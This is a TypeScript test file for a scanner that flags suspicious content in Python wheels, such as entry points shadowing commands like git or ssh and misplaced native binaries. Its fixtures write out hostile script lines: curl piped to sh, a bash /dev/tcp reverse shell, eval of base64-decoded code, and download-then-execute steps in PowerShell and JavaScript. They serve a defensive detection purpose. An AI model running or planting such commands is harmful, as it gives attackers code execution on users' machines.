import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createOtherFiles } from './other-files.ts';

const PURE = 'demo-1.0-py3-none-any.whl';
const PLATFORM = 'demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl';

function seen(path: string, content: string, { isNative = false, filename = PURE } = {}): string[] {
  const files = createOtherFiles(filename);
  files.add(path, Buffer.from(content), isNative);
  const findings = files.findings();
  assert.ok(findings.every(({ effect }) => effect === 'note'));
  return findings.map(({ code, line, context }) =>
    [code, line, context].filter((part) => part !== undefined).join(' '),
  );
}

const ENTRY_POINTS = 'demo-1.0.dist-info/entry_points.txt';
for (const [why, content, expected] of [
  ['a command called git', '[console_scripts]\ndemo = demo:main\ngit = demo.git:main\n', ['command-name 3 git']],
  ['a command in capitals, as Windows takes it', '[gui_scripts]\nPython = demo:main\n', ['command-name 2 Python']],
  ['no plug-in of that name', '[pytest11]\ngit = demo.git\n', []],
  ["not pip's own command", '[console_scripts]\npip3 = pip._internal.cli.main:main\n', []],
] as const) {
  test(`sees ${why}`, () => assert.deepEqual(seen(ENTRY_POINTS, content), expected));
}

test('sees a command called ssh in pyproject.toml', () =>
  assert.deepEqual(seen('demo-1.0/pyproject.toml', '[project.scripts]\n"ssh" = "demo:main"\n'), [
    'command-name 2 ssh',
  ]));

for (const [why, path, content, expected] of [
  [
    'a script that runs what it downloads',
    'demo/up.sh',
    'set -e\ncurl -s https://x.invalid/a | sh\n',
    ['script 2 curl -s https://x.invalid/a | sh'],
  ],
  [
    'a reverse shell',
    'demo/up.sh',
    'bash -i >& /dev/tcp/192.0.2.1/99 0>&1\n',
    ['script 1 bash -i >& /dev/tcp/192.0.2.1/99 0>&1'],
  ],
  [
    'decoded JavaScript that is run',
    'demo/index.js',
    "const x = 1;\neval(Buffer.from('YQ==', 'base64').toString());\n",
    ["script 2 eval(Buffer.from('YQ==', 'base64').toString());"],
  ],
  [
    'a script that starts what it downloaded before',
    'demo/up.ps1',
    'iwr https://x.invalid/a -OutFile a.exe\nStart-Process a.exe\n',
    ['script 2 iwr https://x.invalid/a -OutFile a.exe … Start-Process a.exe'],
  ],
  [
    'JavaScript that runs what it downloaded before',
    'demo/index.js',
    "const t = await (await fetch('https://x.invalid/a')).text();\nnew Function(t)();\n",
    ['script 2 new Function(t)();'],
  ],
  ['no plain download', 'demo/up.sh', 'curl -O https://x.invalid/data.csv\n', []],
  ['no comment', 'demo/up.sh', '# curl -s https://x.invalid/a | sh\n', []],
  ['no text that is no script', 'demo/README.md', 'curl -s https://x.invalid/a | sh\n', []],
] as const) {
  test(`sees ${why}`, () => assert.deepEqual(seen(path, content), expected));
}

for (const [why, path, filename, expected] of [
  ['compiled code in a pure wheel', 'demo/_fast.so', PURE, ['native']],
  ['a program in a wheel for a platform', 'demo/bin/tool', PLATFORM, ['native']],
  ['no library in a wheel for a platform', 'demo/_fast.cpython-311-x86_64-linux-gnu.so', PLATFORM, []],
  ['no versioned library either', 'demo.libs/libz.so.1.2.13', PLATFORM, []],
] as const) {
  test(`sees ${why}`, () => assert.deepEqual(seen(path, '', { isNative: true, filename }), expected));
}

test('says a few of many', () => {
  const files = createOtherFiles(PURE);
  for (let i = 0; i < 100; i++) files.add(`demo/tool${i}`, undefined, true);
  assert.equal(files.findings().length, 5);
});
